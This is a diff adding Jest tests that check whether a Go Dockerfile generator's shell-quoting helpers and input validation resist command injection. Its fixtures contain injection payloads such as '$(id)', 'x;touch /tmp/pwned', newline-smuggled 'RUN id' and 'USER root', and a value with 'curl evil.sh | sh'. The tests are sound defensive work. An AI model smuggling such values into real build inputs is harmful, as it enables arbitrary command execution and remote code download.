@@ -1,6 +1,8 @@
+import { spawnSync } from 'node:child_process';
 import { UsageError } from '../../src/errors';
 import { DockerfileOptions, Runtime } from '../../src/model';
-import { ALPINE_IMAGE, DISTROLESS_IMAGE, renderDockerfile } from '../../src/render/dockerfile';
+import { ALPINE_IMAGE, DISTROLESS_IMAGE, goBuildCommand, renderDockerfile } from '../../src/render/dockerfile';
+import { ignorePattern, inDoubleQuotes, shellWord } from '../../src/render/shell';
 
 const base: DockerfileOptions = {
   builderImage: 'golang:1.22',
@@ -138,5 +140,78 @@ describe('renderDockerfile: .dockerignore and purity', () => {
     expect([...a.keys()]).toEqual(['Dockerfile', '.dockerignore']);
     expect(renderDockerfile({ ...base })).toEqual(a);
     for (const text of a.values()) expect(text).toMatch(/[^\n]\n$/);
+  });
+});
+
+/** The words /bin/sh makes of `line`, with VERSION set as the build argument would be. */
+function shellArgs(line: string, version = '1.4.0'): string[] {
+  const r = spawnSync('/bin/sh', ['-c', `set -- ${line}; printf '%s\\0' "$@"`], { encoding: 'utf8', env: { PATH: process.env.PATH, VERSION: version } });
+  expect(r.status).toBe(0);
+  return r.stdout.split('\0').slice(0, -1);
+}
+
+describe('quoting for /bin/sh and .dockerignore', () => {
+  const HOSTILE = ["it's", 'a b', 'x;touch /tmp/pwned', '$(id)', '`id`', '"q"', 'back\\slash', '~root', 'line\nbreak', '*', '', 'plain-./:=,@%+_'];
+
+  it.each(HOSTILE)('shellWord(%j) is one word that /bin/sh reads back unchanged', (s) => {
+    expect(shellArgs(shellWord(s))).toEqual([s]);
+  });
+
+  it.each(HOSTILE)('inDoubleQuotes(%j) inside "..." expands to itself', (s) => {
+    expect(shellArgs(`"${inDoubleQuotes(s)}"`)).toEqual([s]);
+  });
+
+  it('leaves safe words bare (the golden Dockerfiles need no quotes)', () => {
+    for (const s of ['go', '-trimpath', '/out/orders', './cmd/orders', '-mod=vendor']) expect(shellWord(s)).toBe(s);
+  });
+
+  it('escapes glob characters in an ignore pattern', () => {
+    expect(ignorePattern('charts/a*b?[c]\\d')).toBe('charts/a\\*b\\?\\[c\\]\\\\d');
+    expect(ignorePattern('charts/orders')).toBe('charts/orders');
+  });
+
+  it('the go build line is the argv we mean, with ${VERSION} one word even with spaces', () => {
+    const line = goBuildCommand({ vendored: true, versionVariable: 'example.com/orders/internal/build.Version', binaryName: 'orders', mainPackage: './cmd/orders' });
+    expect(shellArgs(line, '1.4.0 beta; id')).toEqual([
+      'go', 'build', '-mod=vendor', '-trimpath', '-ldflags', '-s -w -X example.com/orders/internal/build.Version=1.4.0 beta; id', '-o', '/out/orders', './cmd/orders',
+    ]);
+  });
+
+  it('even unchecked, hostile tokens stay single arguments of go build', () => {
+    const line = goBuildCommand({ vendored: false, versionVariable: 'main.v" ; touch /tmp/x ; "', binaryName: 'a b', mainPackage: './cmd/$(id);x' });
+    expect(shellArgs(line)).toEqual(['go', 'build', '-trimpath', '-ldflags', '-s -w -X main.v" ; touch /tmp/x ; "=1.4.0', '-o', '/out/a b', './cmd/$(id);x']);
+  });
+});
+
+describe('renderDockerfile refuses what its grammar refuses', () => {
+  it.each<[string, Partial<DockerfileOptions>, string[]]>([
+    ['version variable with a quote and ;', { versionVariable: 'main.version"; curl evil.sh | sh; "' }, ['--version-var', '"main.version\\"; curl', 'main.version']],
+    ['version variable with a newline', { versionVariable: 'main.version\nRUN id' }, ['--version-var', '\\nRUN id']],
+    ['version variable without a package', { versionVariable: 'version' }, ['--version-var', '"version"']],
+    ['main package with ;', { mainPackage: './cmd/a;id' }, ['main package (--main)', '"./cmd/a;id"', './cmd/orders']],
+    ['main package with a space', { mainPackage: './cmd/my service' }, ['main package (--main)', '"./cmd/my service"']],
+    ['main package with a newline', { mainPackage: './cmd/x\nRUN id' }, ['main package (--main)', '\\nRUN id']],
+    ['main package outside the module', { mainPackage: '../other' }, ['main package (--main)', '"../other"']],
+    ['binary name with a quote', { binaryName: 'orders"]\nUSER root' }, ['NAME', 'USER root']],
+    ['chart dir with a newline', { chartDir: 'charts/x\n!.git' }, ['--chart-dir', '\\n!.git']],
+    ['chart dir "."', { chartDir: '.' }, ['--chart-dir', '"."']],
+    ['builder tag with a space', { builderImage: 'golang:1.22 AS x' }, ['--go-version', '"1.22 AS x"']],
+    ['builder without a tag', { builderImage: 'registry.example.com:5000/golang' }, ['--go-version', 'needs a tag']],
+    ['port out of range', { port: 70000 }, ['containerPort', '70000']],
+    ['uid not an integer', { uid: 1.5 }, ['securityContext.runAsUser', '1.5']],
+  ])('%s', (_, o, expected) => {
+    let err: unknown;
+    try {
+      dockerfile(o);
+    } catch (e) {
+      err = e;
+    }
+    expect(err).toBeInstanceOf(UsageError);
+    for (const e of expected) expect(`${(err as UsageError).message}\n${(err as UsageError).suggestion}`).toContain(e);
+  });
+
+  it('.dockerignore keeps out go.work, go.work.sum and the writer\'s staging files', () => {
+    const lines = renderDockerfile(base).get('.dockerignore')!.split('\n');
+    expect(lines).toEqual(expect.arrayContaining(['go.work', 'go.work.sum', '**/.goservice*']));
   });
 });
